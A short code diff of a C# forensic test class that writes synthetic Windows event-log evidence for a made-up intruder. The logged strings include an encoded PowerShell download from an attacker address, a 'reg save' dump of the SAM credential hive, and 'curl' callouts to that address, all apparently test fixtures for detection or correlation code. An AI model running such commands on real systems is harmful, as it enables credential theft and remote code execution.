@@ -144,7 +144,7 @@ public sealed class LinkTests : IDisposable
 
     // One process of another kind of intruder.
     private string MadeUp(string computer, string address) => Path.GetDirectoryName(_program.Write(
-        $"evidence-{Guid.NewGuid():N}/one.evtx", TestEvidence.Log(computer, $"powershell -enc SQBFAFgA http://{address}/qzx.ps1", "whoami /all", "reg save HKLM\\SAM c:\\users\\public\\s.dat")))!;
+        $"evidence-{Guid.NewGuid():N}/one.evtx", TestEvidence.Log(computer, $"powershell -enc SQBFAFgA http://{address}/qzx.ps1", $"whoami /all & curl http://{address}/q", $"reg save HKLM\\SAM c:\\users\\public\\s.dat & curl http://{address}/s")))!;
 
     private static string Hash(string folder) => string.Join('\n', Directory.EnumerateFiles(folder, "*", SearchOption.AllDirectories).Order(StringComparer.Ordinal)
         .Select(static f => f + Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(f)))));
